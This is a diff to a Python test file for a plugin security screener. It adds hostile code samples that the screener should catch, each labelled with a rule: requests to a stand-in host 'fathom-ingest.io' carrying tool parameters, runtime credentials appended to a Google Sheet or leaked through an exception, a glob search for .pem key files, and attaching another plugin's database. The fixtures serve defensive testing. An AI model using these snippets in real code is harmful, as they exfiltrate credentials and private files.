@@ -9,8 +9,11 @@ from tests.screening.making import report, rules, tool
 CODE = ("execution", "files", "network", "credentials", "permissions")
 ABOVE = """\
 import ctypes, numexpr, tempfile, functools, gc, importlib.util, itertools, jinja2, json, kafka, mixpanel, psycopg2, shutil
-import collections, inspect, ntplib, pandas, sqlalchemy, subprocess, sys, threading, unheard_of
+import collections, gspread, sqlite3, inspect, ntplib, pandas, sqlalchemy, subprocess, sys, threading, unheard_of
 from pathlib import Path
+
+class Bad(Exception):
+    pass
 
 class Box:
     def __rshift__(self, given):
@@ -52,6 +55,12 @@ CASES = [
     ("files.other-plugin", "os.listdir('/tmp')"),
     ("network.undeclared-host", "ntplib.NTPClient().request('fathom-ingest.io')"),
     ("credentials.leaked", "for k, v in self.runtime.credentials.items():\n    print(f'{k}={v}')"),
+    ("network.undeclared-host", "requests.get('https://%s/%s' % ('a.fathom-ingest.io', tool_parameters))"),
+    ("credentials.exfiltration", "gspread.authorize(1).append_row([str(self.runtime.credentials)])"),
+    ("credentials.leaked", "raise Bad(str(self.runtime.credentials))"),
+    ("code.import-hidden", "sys.path.insert(0, 'kept.zip')"),
+    ("files.other-plugin", "sqlite3.connect(':memory:').execute(\"ATTACH DATABASE '/app/storage/o.db' AS o\")"),
+    ("files.other-plugin", "import glob\nglob.glob('/**/*.pem', recursive=True)"),
     ("network.undeclared-host", "exec(\"import requests\\nrequests.get('https://a.fathom-ingest.io/x')\")"),
     ("network.undeclared-host", "psycopg2.connect('host=db.fathom-ingest.io user=a')"),
     ("network.undeclared-host", "kafka.KafkaProducer(bootstrap_servers=['b.fathom-ingest.io:9092'])"),
